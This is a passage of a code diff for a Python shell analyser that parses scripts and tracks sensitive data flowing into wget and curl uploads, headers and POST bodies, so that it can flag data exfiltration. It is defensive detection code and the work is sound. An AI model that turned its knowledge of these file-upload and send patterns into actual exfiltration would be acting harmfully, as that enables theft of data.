+        lt = value.find("=<")
+        path = None
+        if value.startswith("@"):
+            path = value[1:]
+        elif at > 0 and value[at - 1] == "=":
+            path = value[at + 1 :]
+        elif lt > 0:
+            path = value[lt + 2 :]
+        elif (
+            "=" not in value
+            and not value.startswith(("{", "["))
+            and ("/" in value or value.startswith(("~", ".")))
+        ):
+            path = value  # -T path
+        if path is None:
+            return set()
+        path = path.split(";", 1)[0]
+        if path == "-":
+            return set(stdin.taint)
+        return self.read_path(Word(path, Out()), line).taint
+
+    def wget(self, cmd: Command, stdin: Out) -> None:
+        body: set[Taint] = set()
+        header: set[Taint] = set()
+        urls: list[Word] = []
+        sends = False
+        args = cmd.args
+        index = 0
+        while index < len(args):
+            word = args[index]
+            flag, _, rest = word.text.partition("=")
+            value = Word(rest, word.out) if rest else None
+            if value is None and flag in _WGET_DATA | _WGET_ARG_OPTS and index + 1 < len(args):
+                value = args[index + 1]
+                index += 1
+            if flag in _WGET_DATA and value is not None:
+                sends = True
+                body |= value.out.taint
+                if flag.endswith("-file"):
+                    body |= self.read_path(Word(value.text, Out()), cmd.line).taint
+            elif flag == "--header" and value is not None:
+                header |= value.out.taint
+            elif flag == "--method" and value is not None:
+                sends = sends or value.text.upper() in ("POST", "PUT", "PATCH")
+            elif value is None and not word.text.startswith("-"):
+                urls.append(word)
+            index += 1
+        for url in urls:
+            if url.out.taint:
+                sends = True
+                body |= url.out.taint
+        if sends:
+            host = next(
+                (h for h in (host_of(u.text) or _bare_host(u.text) for u in urls) if h), None
+            )
+            self.facts.sends.append(Send(cmd.line, host, "wget", body=body, header=header))
+
+
+def _strip_at(text: str) -> str:
+    # curl -F f=@path, -d @path, name=<path: the path itself.
+    if text.startswith("@"):
+        return text[1:]
+    for mark in ("=@", "=<"):
+        at = text.find(mark)
+        if at > 0:
+            return text[at + 2 :].split(";", 1)[0]
+    return text
+
+
+def _bare_host(text: str) -> str | None:
+    match = _HOSTISH_RE.match(text)
+    return match.group(1).lower() if match else None
+
+
+def analyse_shell(
+    text: str,
+    *,
+    first_line: int = 1,
+    depth: int = 0,
+    variables: dict[str, Out] | None = None,
+    tainted_files: dict[str, Out] | None = None,
+    embed: Callable[[str, str, int], Out] | None = None,
+    facts: ShellFacts | None = None,
+) -> Out:
+    """Walk a shell text; what it does is added to ``facts`` (a new one if None).
+
+    Args:
+        text: the shell source.
+        first_line: the file line of its first line.
+        depth: how many one-liners deep this text is.
+        variables: variables known before it (what each holds), updated as it assigns.
+        tainted_files: files earlier steps wrote sensitive or decoded data to (path -> content).
+        embed: reads code of another language run from the shell (``python -c``), returning
+            what it prints.
+        facts: where to gather the facts.
+    Returns:
+        What the text's last statement writes to its output.
+    """
+    own = facts if facts is not None else ShellFacts()
+    if tainted_files is not None and tainted_files is not own.tainted_files:
+        own.tainted_files.update(tainted_files)
+    walker = _Walker(
+        own,
+        first_line=first_line,
+        depth=depth,
+        variables=variables if variables is not None else {},
+        embed=embed,
+    )
+    out = Out()
+    for offset, chunk in _chunks(text):
+        walker.first_line = first_line + offset
+        for node in parse_shell(chunk).root_node.named_children:
+            try:
+                out = walker.statement(node, Out())
+            except RecursionError:
+                own.too_deep = True
+    own.output = out
+    return out
+
+
+def _chunks(text: str) -> list[tuple[int, str]]:
+    """The text in pieces tree-sitter parses in linear time: its bash grammar is quadratic on
+    one very long pipeline or list, so a long text is parsed in runs of whole lines and a very
+    long line in pieces cut at a separator. (line offset, piece) each."""
+    if len(text) <= CHUNK:
+        return [(0, text)]
+    chunks: list[tuple[int, str]] = []
+    current: list[str] = []
+    start = size = 0
+    for number, line in enumerate(text.split("\n")):
+        if len(line) > LONG_LINE:
+            if current:
+                chunks.append((start, "\n".join(current)))
+                current, size = [], 0
+            at = 0
+            while at < len(line):
+                end = min(len(line), at + LONG_LINE)
+                if end < len(line):
+                    cut = max(line.rfind(sep, at, end) for sep in ("|", ";", "&", " "))
+                    end = cut + 1 if cut > at else end
+                chunks.append((number, line[at:end]))
+                at = end
+            start = number + 1
+            continue
+        if size + len(line) > CHUNK and current:
+            chunks.append((start, "\n".join(current)))
+            current, size, start = [], 0, number
+        current.append(line)
+        size += len(line) + 1
+    if current:
+        chunks.append((start, "\n".join(current)))
+    return chunks
+
+
+def shell_facts(
+    text: str,
+    *,
+    first_line: int = 1,
+    tainted_files: dict[str, Out] | None = None,
+    embed: Callable[[str, str, int], Out] | None = None,
+) -> ShellFacts:
+    """The facts of one shell unit (a script, a code block, a one-liner)."""
+    facts = ShellFacts()
+    analyse_shell(
+        text, first_line=first_line, tainted_files=tainted_files, embed=embed, facts=facts
+    )
+    return facts
